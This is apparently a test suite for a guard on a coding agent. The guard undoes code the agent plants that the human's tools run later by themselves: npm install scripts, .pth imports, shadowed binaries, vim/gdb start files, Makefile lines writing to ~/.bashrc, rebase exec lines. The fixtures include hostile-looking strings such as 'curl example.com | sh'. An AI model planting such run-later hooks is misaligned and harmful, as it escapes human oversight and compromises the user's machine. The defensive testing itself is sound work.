// Code the agent adds that the human's own tools run later by themselves (an install-time script, an .npmrc key that
// names a program, a .pth import line in the project's virtualenv): the result check takes the entry out after the
// call and reports a BLOCK, while the rest of the agent's edit to the same file stays as written. The project
// folder and the files are real; each call's effect is made between the hooks, as the tool would make it.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { undoneText } from '../src/integrity/run-later-watch.js';
import { afterRun, anchor, before, fixtures, ROOT_SESSION, startV1, type V1TestHost } from './support/v1-host.js';

async function call(
  host: V1TestHost,
  command: string,
  effect: () => void,
): Promise<{ blocked: string | undefined; output: string }> {
  const callID = `call_${Math.random().toString(36).slice(2)}`;
  const input = { tool: 'bash', sessionID: ROOT_SESSION, callID };
  const args = { command, description: 'test' };
  const blocked = await before(host, { input, output: { args } });
  if (blocked !== undefined) return { blocked, output: '' };
  effect();
  const result: Record<string, unknown> = { title: 'bash', output: 'done\n', metadata: {} };
  await afterRun(host, input, args, result);
  return { blocked, output: String(result.output) };
}

const MANIFEST = readFileSync(join(fixtures, 'run-later', 'package.json'), 'utf8');
const SITE = '.venv/lib/python3.12/site-packages';

describe('code that runs later by itself', () => {
  let host: V1TestHost;
  const file = (p: string) => join(host.project, p);
  const read = (p: string) => readFileSync(file(p), 'utf8');
  beforeEach(async () => {
    host = await startV1({
      config: 'team',
      files: {
        'package.json': MANIFEST,
        '.npmrc': 'registry=https://registry.npmjs.org/\n',
        '.venv/pyvenv.cfg': 'home = /usr/bin\n',
        [`${SITE}/README.txt`]: 'This directory exists so that 3rd party packages can be installed here.\n',
      },
    });
  });

  it('an install-time script added to package.json is taken out; the dependency added in the same edit stays', async () => {
    const edited = MANIFEST.replace(
      '"prepare": "husky"',
      '"prepare": "husky",\n    "postinstall": "node x.js"',
    ).replace('"zod": "^4.0.0"', '"zod": "^4.0.0",\n    "yaml": "^2.8.0"');
    const { output } = await call(host, `node -e "…"`, () => writeFileSync(file('package.json'), edited));
    const now = JSON.parse(read('package.json'));
    expect(now.scripts.postinstall).toBeUndefined();
    expect(now.scripts.prepare).toBe('husky');
    expect(now.dependencies.yaml).toBe('^2.8.0');
    // Only the entry went: the rest of the file is byte for byte the agent's edit.
    expect(read('package.json')).toBe(edited.replace(',\n    "postinstall": "node x.js"', ''));
    expect(output).toContain('[BLOCK] contract "anchor-protect-run-later"');
    expect(output).toContain(
      "Changed: package.json — added the `postinstall` script (npm runs it at the human's `npm install`)",
    );
    expect(host.toasts.some((t) => t.message.includes('anchor-protect-run-later'))).toBe(true);
  });

  it('a changed prepare script gets its old command back', async () => {
    await call(host, 'npm pkg set scripts.prepare="husky && sh x.sh"', () =>
      writeFileSync(file('package.json'), MANIFEST.replace('"husky"', '"husky && sh x.sh"')),
    );
    expect(JSON.parse(read('package.json')).scripts.prepare).toBe('husky');
  });

  it('honest edits of package.json pass untouched: a test script, a build script, a dependency', async () => {
    const edited = MANIFEST.replace('"vitest run"', '"vitest run --coverage",\n    "build": "tsc -p ."');
    const { output } = await call(host, 'npm pkg set scripts.build="tsc -p ."', () =>
      writeFileSync(file('package.json'), edited),
    );
    expect(read('package.json')).toBe(edited);
    expect(output).toBe('done\n');
  });

  it('an .npmrc line that names a shell for npm scripts is taken out; the registry token line stays', async () => {
    const edited =
      'registry=https://registry.npmjs.org/\nscript-shell=/tmp/sh.sh\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n';
    const { output } = await call(host, 'cat >> .npmrc', () => writeFileSync(file('.npmrc'), edited));
    expect(read('.npmrc')).toBe(
      'registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n',
    );
    expect(output).toContain('the `script-shell` setting');
  });

  it("a .pth import line planted in the project's virtualenv is removed; one an installer recorded stays", async () => {
    const { output } = await call(host, 'p=$(ls -d .venv/lib/python3*/site-packages) && echo … > $p/zz.pth', () =>
      writeFileSync(file(`${SITE}/zz_local.pth`), "import os; os.system('touch /tmp/x')\n"),
    );
    expect(existsSync(file(`${SITE}/zz_local.pth`))).toBe(false);
    expect(output).toContain(`Created: ${SITE}/zz_local.pth — added an \`import\` line`);
    // pip install -e . writes an import line too, and lists the file in the distribution's RECORD.
    await call(host, 'pip install -e .', () => {
      mkdirSync(file(`${SITE}/shop-1.0.dist-info`), { recursive: true });
      writeFileSync(
        file(`${SITE}/__editable__.shop-1.0.pth`),
        'import __editable___shop_1_0_finder; __editable___shop_1_0_finder.install()\n',
      );
      writeFileSync(file(`${SITE}/shop-1.0.dist-info/RECORD`), '__editable__.shop-1.0.pth,sha256=x,80\n');
      writeFileSync(file(`${SITE}/paths.pth`), '/opt/extra\n');
    });
    expect(existsSync(file(`${SITE}/__editable__.shop-1.0.pth`))).toBe(true);
    expect(read(`${SITE}/paths.pth`)).toBe('/opt/extra\n');
  });

  it("a virtualenv's script edited in place gets its bytes back, a planted one is removed; one an installer recorded (with its hash) stays", async () => {
    const script = (name: string) =>
      `#!${file('.venv/bin/python')}\nimport sys\nfrom ${name} import main\nif __name__ == '__main__':\n    sys.exit(main())\n`;
    const record = (name: string) =>
      `../../../bin/${name},sha256=${createHash('sha256').update(script(name)).digest('base64url')},${script(name).length}\n`;
    // pip installs a tool: its console script and the distribution's RECORD with the script's hash.
    const installed = await call(host, 'pip install black', () => {
      mkdirSync(file(`${SITE}/black-24.1.dist-info`), { recursive: true });
      writeFileSync(file(`${SITE}/black-24.1.dist-info/RECORD`), record('black'));
      mkdirSync(file('.venv/bin'), { recursive: true });
      writeFileSync(file('.venv/bin/black'), script('black'), { mode: 0o755 });
    });
    expect(installed.output).toBe('done\n');
    const edited = await call(host, 'python3 - < patch.py', () => {
      writeFileSync(
        file('.venv/bin/black'),
        script('black').replace('import sys\n', "import sys; open('/tmp/m', 'w')\n"),
      );
      writeFileSync(file('.venv/bin/pytest'), '#!/bin/sh\ntouch /tmp/m\n', { mode: 0o755 });
    });
    expect(read('.venv/bin/black')).toBe(script('black'));
    expect(existsSync(file('.venv/bin/pytest'))).toBe(false);
    expect(edited.output).toMatch(/\.venv\/bin\/black.*RECORD/);
    // An upgrade rewrites the script and its RECORD line together: taken as the installer's.
    await call(host, 'pip install -U black', () => {
      writeFileSync(file(`${SITE}/black-24.1.dist-info/RECORD`), record('black2'));
      writeFileSync(file('.venv/bin/black2'), script('black2'), { mode: 0o755 });
    });
    expect(existsSync(file('.venv/bin/black2'))).toBe(true);
  });

  it("the module an installer's .pth imports at every start, edited in place, gets its bytes back; an upgrade's stays", async () => {
    const PTH =
      "import os; enabled = os.environ.get('SETUPTOOLS_USE_DISTUTILS', 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    const hack = (v: string) => `def add_shim():\n    pass  # ${v}\n`;
    const line = (name: string, text: string) =>
      `${name},sha256=${createHash('sha256').update(text).digest('base64url')},${text.length}\n`;
    const install = (v: string) => () => {
      mkdirSync(file(`${SITE}/_distutils_hack`), { recursive: true });
      mkdirSync(file(`${SITE}/setuptools-${v}.dist-info`), { recursive: true });
      writeFileSync(file(`${SITE}/distutils-precedence.pth`), PTH);
      writeFileSync(file(`${SITE}/_distutils_hack/__init__.py`), hack(v));
      writeFileSync(
        file(`${SITE}/setuptools-${v}.dist-info/RECORD`),
        line('distutils-precedence.pth', PTH) + line('_distutils_hack/__init__.py', hack(v)),
      );
    };
    expect((await call(host, 'pip install setuptools', install('65'))).output).toBe('done\n');
    const edited = await call(host, 'python3 - < patch.py', () =>
      writeFileSync(file(`${SITE}/_distutils_hack/__init__.py`), `${hack('65')}open('/tmp/m', 'w')\n`),
    );
    expect(read(`${SITE}/_distutils_hack/__init__.py`)).toBe(hack('65'));
    expect(edited.output).toMatch(/_distutils_hack\/__init__\.py/);
    // An upgrade rewrites the module and lists its new bytes in the new distribution's RECORD: the installer's.
    await call(host, 'pip install -U setuptools', install('80'));
    expect(read(`${SITE}/_distutils_hack/__init__.py`)).toBe(hack('80'));
  });

  it('a bypass that names the contract lets the change through once, and is spent', async () => {
    const answer = async (a: string) => String((await anchor(host, a))[0]?.text ?? '');
    expect(await answer('bypass anchor-protect-run-later the team wants the postinstall')).toContain('Bypass granted');
    const edited = MANIFEST.replace('"prepare": "husky"', '"prepare": "husky",\n    "postinstall": "node x.js"');
    const { output } = await call(host, 'npm pkg set scripts.postinstall="node x.js"', () =>
      writeFileSync(file('package.json'), edited),
    );
    expect(read('package.json')).toBe(edited);
    expect(output).not.toContain('BLOCKED');
    const status = await answer('status');
    expect(status).toContain('Open bypass: none');
    expect(status).toMatch(/Code that runs later by itself .*: 2 files compared after every call/);
    // The next one is held again.
    await call(host, 'npm pkg set scripts.preinstall="sh y"', () =>
      writeFileSync(file('package.json'), edited.replace('"test":', '"preinstall": "sh y",\n    "test":')),
    );
    expect(JSON.parse(read('package.json')).scripts.preinstall).toBeUndefined();
  });

  it('a local dependency added with an install script of its own is held in its package.json too', async () => {
    await call(host, 'mkdir tools/setup && npm pkg set …', () => {
      mkdirSync(file('tools/setup'), { recursive: true });
      writeFileSync(file('tools/setup/package.json'), '{"name":"setup","scripts":{"install":"sh ./x.sh"}}\n');
      writeFileSync(
        file('package.json'),
        MANIFEST.replace('"zod": "^4.0.0"', '"zod": "^4.0.0",\n    "setup": "file:./tools/setup"'),
      );
    });
    expect(JSON.parse(read('package.json')).dependencies.setup).toBe('file:./tools/setup');
    expect(JSON.parse(read('tools/setup/package.json')).scripts.install).toBeUndefined();
  });

  it('a `yarnPath` added to .yarnrc.yml is taken out; the linker setting beside it stays', async () => {
    await call(host, 'cat > .yarnrc.yml', () =>
      writeFileSync(file('.yarnrc.yml'), 'nodeLinker: node-modules\nyarnPath: tools/yarn.cjs\n'),
    );
    expect(read('.yarnrc.yml')).toBe('nodeLinker: node-modules\n');
  });

  it('a project two levels down (apps/web, no workspaces declared) is held as the root is', async () => {
    mkdirSync(file('apps/web'), { recursive: true });
    writeFileSync(file('apps/web/package.json'), '{"name":"web","scripts":{"test":"vitest"}}\n');
    await call(host, 'ls', () => {});
    await call(host, 'python3 - < x.py', () =>
      writeFileSync(file('apps/web/package.json'), '{"name":"web","scripts":{"test":"vitest","postinstall":"sh x"}}\n'),
    );
    expect(read('apps/web/package.json')).toBe('{"name":"web","scripts":{"test":"vitest"}}\n');
  });

  it('a project one level down has its own .npmrc: a `node-options` added there is taken out too', async () => {
    mkdirSync(file('web'), { recursive: true });
    writeFileSync(file('web/package.json'), '{"name":"web","scripts":{"hello":"node -e 1"}}\n');
    await call(host, 'ls', () => {});
    await call(host, 'python3 - < npmrc.py', () =>
      writeFileSync(file('web/.npmrc'), 'save-exact=true\nnode-options=--require=/tmp/x.js\n'),
    );
    expect(read('web/.npmrc')).toBe('save-exact=true\n');
  });

  it('a dependency on a local tarball or a git source is taken out; a registry dependency added beside it stays', async () => {
    mkdirSync(file('web'), { recursive: true });
    writeFileSync(
      file('web/package.json'),
      '{\n  "name": "web",\n  "dependencies": {\n    "react": "^18.2.0"\n  }\n}\n',
    );
    await call(host, 'ls', () => {});
    await call(host, 'python3 - < deps.py', () =>
      writeFileSync(
        file('web/package.json'),
        '{\n  "name": "web",\n  "dependencies": {\n    "react": "^18.2.0",\n    "zod": "^3.0.0",\n    "kit": "file:kit-1.0.0.tgz",\n    "gitkit": "git+file:///tmp/r"\n  }\n}\n',
      ),
    );
    expect(JSON.parse(read('web/package.json')).dependencies).toEqual({ react: '^18.2.0', zod: '^3.0.0' });
  });

  it('a binding.gyp given a command expansion is put back (npm runs `node-gyp rebuild` at install); one without stays', async () => {
    const honest = "{ 'targets': [ { 'target_name': 'addon', 'sources': [ 'src/addon.cc' ] } ] }\n";
    await call(host, 'cat > binding.gyp', () => writeFileSync(file('binding.gyp'), honest));
    expect(read('binding.gyp')).toBe(honest);
    await call(host, 'python3 - < plant.py', () =>
      writeFileSync(file('binding.gyp'), honest.replace("'src/addon.cc'", "'<!(sh tools/x.sh)'")),
    );
    expect(read('binding.gyp')).toBe(honest);
    await call(host, 'rm binding.gyp && python3 - < plant.py', () =>
      writeFileSync(file('binding.gyp'), "{ 'targets': [ { 'actions': [ { 'action': ['sh', '-c', 'x'] } ] } ] }\n"),
    );
    expect(read('binding.gyp')).toBe(honest);
  });

  it("a lock file entry that resolves a registry range to a local tarball is put back (npm ci installs from it); npm's own lock stays", async () => {
    mkdirSync(file('web'), { recursive: true });
    writeFileSync(file('web/package.json'), '{"name":"web","dependencies":{"left-pad":"^1.3.0"}}\n');
    const lock = (resolved: string) =>
      `${JSON.stringify({ name: 'web', lockfileVersion: 3, packages: { '': { name: 'web' }, 'node_modules/left-pad': { version: '1.3.0', resolved } } }, null, 2)}\n`;
    const honest = lock('https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz');
    await call(host, 'npm install', () => writeFileSync(file('web/package-lock.json'), honest));
    expect(read('web/package-lock.json')).toBe(honest);
    await call(host, 'python3 - < lock.py', () =>
      writeFileSync(file('web/package-lock.json'), lock('file:vendor/left-pad-1.3.0.tgz')),
    );
    expect(read('web/package-lock.json')).toBe(honest);
  });

  it('what an allowed .envrc loads: a variable that runs code is taken out of its .env (a setting stays), a new .envrc.local is removed', async () => {
    writeFileSync(file('.envrc'), 'dotenv_if_exists\nsource_env_if_exists .envrc.local\nPATH_add bin\n');
    writeFileSync(file('.env'), 'PORT=3000\n');
    await call(host, 'ls', () => {});
    await call(host, 'python3 - < env.py', () => {
      writeFileSync(
        file('.env'),
        'PORT=3000\nLOG_LEVEL=debug\nNODE_OPTIONS=--require=/tmp/x.js\nexport GIT_CONFIG_COUNT=1\n',
      );
      writeFileSync(file('.envrc.local'), 'touch /tmp/x\n');
    });
    expect(read('.env')).toBe('PORT=3000\nLOG_LEVEL=debug\n');
    expect(existsSync(file('.envrc.local'))).toBe(false);
  });

  it("a program named like one of the human's (git) in a folder the allowed .envrc puts on PATH is removed; the project's own script stays", async () => {
    writeFileSync(file('.envrc'), 'dotenv_if_exists\nPATH_add bin\n');
    mkdirSync(file('bin'));
    await call(host, 'ls', () => {});
    const { blocked, output } = await call(host, 'python3 - < bin.py', () => {
      writeFileSync(file('bin/git'), '#!/bin/sh\ntouch /tmp/x\nexec /usr/bin/git "$@"\n', { mode: 0o755 });
      writeFileSync(file('bin/deploy-app'), '#!/bin/sh\necho deploy\n', { mode: 0o755 });
    });
    expect(blocked).toBeUndefined();
    expect(output).toContain('anchor-protect-run-later');
    expect(existsSync(file('bin/git'))).toBe(false);
    expect(existsSync(file('bin/deploy-app'))).toBe(true);
  });

  it("a folder's own vim start file (.exrc, .nvim.lua) is removed when new, put back when changed", async () => {
    mkdirSync(file('web'), { recursive: true });
    writeFileSync(file('web/.nvim.lua'), '-- team settings\n');
    await call(host, 'ls', () => {});
    await call(host, 'python3 - < vim.py', () => {
      writeFileSync(file('.exrc'), "call system('touch /tmp/x')\n");
      writeFileSync(file('web/.nvim.lua'), "os.execute('touch /tmp/x')\n");
    });
    expect(existsSync(file('.exrc'))).toBe(false);
    expect(read('web/.nvim.lua')).toBe('-- team settings\n');
  });

  it("a vim start file at any depth, and gdb's and lldb's start files, are removed when new, put back when changed (routes 14.16, 14.17)", async () => {
    mkdirSync(file('packages/app/src/deep'), { recursive: true });
    writeFileSync(file('packages/app/.gdbinit'), 'set print pretty on\n');
    await call(host, 'ls', () => {});
    await call(host, 'python3 - < start.py', () => {
      writeFileSync(file('packages/app/src/deep/.exrc'), "call system('touch /tmp/x')\n");
      writeFileSync(file('.gdbinit'), 'shell touch /tmp/x\n');
      writeFileSync(file('packages/.lldbinit'), 'platform shell touch /tmp/x\n');
      writeFileSync(file('packages/app/.gdbinit'), 'shell touch /tmp/x\n');
      writeFileSync(file('packages/app/src/index.js'), 'export const x = 1;\n');
    });
    expect(existsSync(file('packages/app/src/deep/.exrc'))).toBe(false);
    expect(existsSync(file('.gdbinit'))).toBe(false);
    expect(existsSync(file('packages/.lldbinit'))).toBe(false);
    expect(read('packages/app/.gdbinit')).toBe('set print pretty on\n');
    expect(read('packages/app/src/index.js')).toBe('export const x = 1;\n');
  });

  it('a Makefile or a conftest.py line that writes outside the project is put back (routes 3.15, 3.32); the build, the tests and /tmp stay', async () => {
    const honest =
      '.PHONY: build test\nbuild:\n\tgo build -o bin/shop ./cmd/shop\ntest: build\n\tgo test ./... > /tmp/t.log\n';
    writeFileSync(file('Makefile'), honest);
    await call(host, 'ls', () => {});
    const planted = `${honest}\nall:\n\t@echo 'export OPENCODE_PURE=1' >> ~/.bashrc\n`;
    const { output } = await call(host, "cat >> Makefile <<'EOF'", () => writeFileSync(file('Makefile'), planted));
    expect(read('Makefile')).toBe(honest);
    expect(output).toContain('[BLOCK] contract "anchor-protect-run-later"');
    expect(output).toContain("echo 'export OPENCODE_PURE=1' >> ~/.bashrc");
    await call(host, 'python3 - < t.py', () => {
      mkdirSync(file('tests'), { recursive: true });
      writeFileSync(file('tests/conftest.py'), 'import os\nos.system("touch /home/someone/marker")\n');
    });
    expect(existsSync(file('tests/conftest.py'))).toBe(false);
    // Honest work on both files stays as written.
    const more = `${honest}lint:\n\tgolangci-lint run ./...\n`;
    const fixture = 'import pytest\n\n@pytest.fixture\ndef db():\n    open("/tmp/shop.db", "w").close()\n';
    await call(host, 'make lint', () => {
      writeFileSync(file('Makefile'), more);
      writeFileSync(file('tests/conftest.py'), fixture);
    });
    expect(read('Makefile')).toBe(more);
    expect(read('tests/conftest.py')).toBe(fixture);
  });

  it('a package.json script that changes something outside the project is taken out; one that builds and tests stays', async () => {
    const pkg = JSON.parse(MANIFEST);
    pkg.scripts.test = 'vitest run && echo "export OPENCODE_PURE=1" >> ~/.bashrc';
    pkg.scripts.e2e = 'playwright test --output /tmp/e2e';
    const { output } = await call(host, 'npm pkg set …', () =>
      writeFileSync(file('package.json'), JSON.stringify(pkg, null, 2)),
    );
    const now = JSON.parse(read('package.json'));
    expect(now.scripts.test).toBe(JSON.parse(MANIFEST).scripts.test);
    expect(now.scripts.e2e).toBe('playwright test --output /tmp/e2e');
    expect(output).toContain('changes something outside the project');
  });

  it('a virtualenv one level down (backend/.venv) is watched too', async () => {
    const site = 'backend/.venv/lib/python3.11/site-packages';
    await call(host, 'python3 -m venv backend/.venv && echo … > …/x.pth', () => {
      mkdirSync(file(site), { recursive: true });
      writeFileSync(file('backend/.venv/pyvenv.cfg'), 'home = /usr/bin\n');
      writeFileSync(file(`${site}/x.pth`), 'import os\n');
    });
    expect(existsSync(file(`${site}/x.pth`))).toBe(false);
  });

  it('a project one level down (web/package.json) is held as the root is', async () => {
    mkdirSync(file('web'), { recursive: true });
    writeFileSync(file('web/package.json'), '{"name":"web","scripts":{"test":"vitest"}}\n');
    await call(host, 'ls', () => {});
    await call(host, 'cd web && npm pkg set scripts.preinstall="sh x"', () =>
      writeFileSync(file('web/package.json'), '{"name":"web","scripts":{"test":"vitest","preinstall":"sh x"}}\n'),
    );
    expect(read('web/package.json')).toBe('{"name":"web","scripts":{"test":"vitest"}}\n');
  });

  it('workspaces named one by one or by a folder glob are held as the root is', async () => {
    const root = JSON.stringify({ name: 'mono', private: true, workspaces: ['packages/api', 'libs/*'] });
    writeFileSync(file('package.json'), `${root}\n`);
    for (const ws of ['packages/api', 'libs/ui']) {
      mkdirSync(file(ws), { recursive: true });
      writeFileSync(file(`${ws}/package.json`), '{"name":"x"}\n');
    }
    await call(host, 'ls', () => {});
    await call(host, 'for d in packages/api libs/ui; do …; done', () => {
      for (const ws of ['packages/api', 'libs/ui'])
        writeFileSync(file(`${ws}/package.json`), '{"name":"x","scripts":{"postinstall":"sh y"}}\n');
    });
    expect(read('packages/api/package.json')).toBe('{"name":"x","scripts":{}}\n');
    expect(read('libs/ui/package.json')).toBe('{"name":"x","scripts":{}}\n');
  });

  it("an installed package's code written by hand is stopped before it runs; reinstalling and its cache are not", async () => {
    for (const command of [
      `echo 'require("fs").writeFileSync("/tmp/x", "")' >> node_modules/hello-tool/bin.js`,
      "sed -i 's/exit 1/exit 0/' node_modules/.bin/lint",
      `printf 'import os\n' > ${SITE}/six.py`,
      // a dist-info's entry_points.txt names the plugins pytest loads at its next start: text, but run
      `printf '[pytest11]\nx = evil\n' >> ${SITE}/tool-1.0.dist-info/entry_points.txt`,
    ])
      expect((await call(host, command, () => {})).blocked).toContain('anchor-protect-run-later');
    for (const command of [
      'rm -rf node_modules && npm ci',
      'mkdir -p node_modules/.cache/babel && echo x > node_modules/.cache/babel/k',
      'npm install zod@4',
      'cat node_modules/zod/package.json',
      // a loop over notebooks names its glob, which could stand for a node_modules folder: no runtime loads a notebook
      'for f in ./notebooks/*/*.ipynb; do jupyter nbconvert --to notebook --execute "$f" --output "$f"; mv -f "$f" "$f"; done',
    ])
      expect((await call(host, command, () => {})).blocked).toBeUndefined();
  });
});

describe('taking an entry out keeps the layout of the file', () => {
  const out = (before: string, now: string, key: string, value: string) =>
    undoneText('npm-manifest', before, now, [{ key, value }]);
  it('a one-line package.json stays on one line', () => {
    expect(out('{"scripts":{"test":"t"}}\n', '{"scripts":{"preinstall":"x","test":"t"}}\n', 'preinstall', 'x')).toBe(
      '{"scripts":{"test":"t"}}\n',
    );
  });
  it('the first, the last entry; two spaces or tabs', () => {
    expect(out('{}', '{\n  "scripts": {\n    "postinstall": "x",\n    "test": "y"\n  }\n}\n', 'postinstall', 'x')).toBe(
      '{\n  "scripts": {\n    "test": "y"\n  }\n}\n',
    );
    expect(out('{}', '{\n\t"scripts": {\n\t\t"test": "y",\n\t\t"postinstall": "x"\n\t}\n}\n', 'postinstall', 'x')).toBe(
      '{\n\t"scripts": {\n\t\t"test": "y"\n\t}\n}\n',
    );
  });
  it('a changed command gets its old one back in place', () => {
    expect(
      out(
        '{"scripts":{"prepare":"husky"}}',
        '{\n  "scripts": {\n    "prepare": "husky && x"\n  }\n}\n',
        'prepare',
        'husky && x',
      ),
    ).toBe('{\n  "scripts": {\n    "prepare": "husky"\n  }\n}\n');
  });
});

describe("an interrupted rebase's todo (route 14.19)", () => {
  it('an exec line a call adds is taken out; the picks and an exec there before stay, so the rebase goes on', async () => {
    const todo = 'pick 1a2b3c4 feat: one\nexec npm test\npick 5d6e7f8 feat: two\n';
    const host = await startV1({
      config: 'team',
      files: { '.git/HEAD': 'ref: refs/heads/main\n', '.git/rebase-merge/git-rebase-todo': todo },
    });
    const path = join(host.project, '.git/rebase-merge/git-rebase-todo');
    const { output } = await call(host, 'python3 - < todo.py', () =>
      writeFileSync(path, `exec touch /tmp/x\n${todo}x curl example.com | sh\n`),
    );
    expect(readFileSync(path, 'utf8')).toBe(todo);
    expect(output).toContain('[BLOCK] contract "anchor-protect-run-later"');
    expect(output).toContain("interrupted rebase's todo");
  });
});
